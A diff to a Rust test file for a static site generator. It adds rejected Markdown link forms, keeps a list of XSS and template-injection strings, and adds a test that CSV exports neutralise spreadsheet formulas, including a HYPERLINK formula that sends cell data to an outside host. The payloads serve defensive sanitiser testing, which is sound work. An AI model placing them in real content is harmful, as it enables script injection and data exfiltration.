@@ -8,7 +8,7 @@ use concord::source::Sources;
 use concord::theme::Theme;
 
 use crate::start::example;
-use crate::support::NOW;
+use crate::support::{NOW, data, lock, site, text};
 
 const PAGE: &str = "content/pages/about.tc.md";
 
@@ -72,6 +72,9 @@ const REFUSED: &[(&str, &str)] = &[
     ("[a](blob:x)", "link-scheme"),
     ("[a](https:evil.example)", "link-scheme"),
     ("<javascript:alert(1)>", "link-scheme"),
+    ("[a](//evil.example/)", "link-form"),
+    ("[a](/\\evil.example/)", "link-form"),
+    ("[a](https://user:word@evil.example/)", "link-form"),
     ("[a][b]\n\n[b]: javascript:alert(1)", "link-scheme"),
     ("![a](x.png)", "no-picture"),
     ("![a](https://evil.example/x.png)", "picture-elsewhere"),
@@ -171,7 +174,7 @@ const TITLES: [&str; 7] = [
     "{{ 7 * 7 }}{% include \"page\" %}",
 ];
 
-const MARKDOWN: [&str; 14] = [
+const MARKDOWN: [&str; 13] = [
     "a <svg/onload=alert(1)>",
     "`<script>alert(1)</script>`",
     "```\"onload=alert(1)\n</code><script>alert(1)</script>\n```",
@@ -184,7 +187,6 @@ const MARKDOWN: [&str; 14] = [
     "## x {onclick=alert(1)}",
     "|a|\n|-|\n|`<script>`|",
     "[a](mailto:a@e.example?body=<script>)",
-    "[a](//evil.example/)",
     "{{ 7 * 7 }}{% raw %}",
 ];
 
@@ -194,6 +196,57 @@ fn handler(html: &str) -> Option<&str> {
     let handlers = ["onload", "onmouseover", "onclick"];
     tags.skip(1)
         .find(|tag| handlers.iter().any(|name| tag.contains(name)))
+}
+
+#[test]
+fn no_program_runs_what_a_table_holds() {
+    const LOCK: &str = "content/first/signed.lock";
+    let mut sources = example(&["tc", "en"]);
+    let item = |number: u32, key: &str| format!("content/first/01-trade/{number}.{key}.md");
+    let formula = "=HYPERLINK(\"https://example.org/?\"&A1)";
+    let texts = [
+        (1, "tc", "+1", "=1+1 支持甲市貿易促進會在乙市設立辦事處。"),
+        (1, "en", formula, "@SUM(1,1) by the City A Trade Council"),
+        (2, "tc", "減去", "－5%"),
+        (2, "en", "a - b", "1 = 1"),
+    ];
+    for (number, key, title, text) in texts {
+        let title = serde_json::to_string(title).unwrap();
+        let text = format!("+++\ntitle = {title}\n+++\n\n{text}\n");
+        sources.insert(item(number, key), text);
+    }
+    sources.remove(LOCK);
+    lock(&mut sources);
+    let site = site(&sources);
+    let table = text(&site, "data/items.csv").trim_start_matches('\u{FEFF}');
+    let mut reader = csv::Reader::from_reader(table.as_bytes());
+    let columns = reader.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let items = data(&site, "data/items.json");
+    for (number, key, title, text) in texts {
+        let index = number - 1;
+        let item = &items[index as usize];
+        // The data that nobody opens in a spreadsheet have every text as it is.
+        assert_eq!(
+            (&item["titles"][key], &item["texts"][key]),
+            (&title.into(), &text.into())
+        );
+        let cell = |name: &str| {
+            let column = columns
+                .iter()
+                .position(|column| column == format!("{name}_{key}"));
+            rows[index as usize][column.unwrap()].to_owned()
+        };
+        let harmless = |text: &str| match text.starts_with(['=', '+', '@', '－']) {
+            true => format!("'{text}"),
+            false => text.to_owned(),
+        };
+        assert_eq!(
+            (cell("title"), cell("text")),
+            (harmless(title), harmless(text))
+        );
+    }
+    assert!(table.contains("\"'+1\""), "in quotation marks: {table}");
 }
 
 #[test]
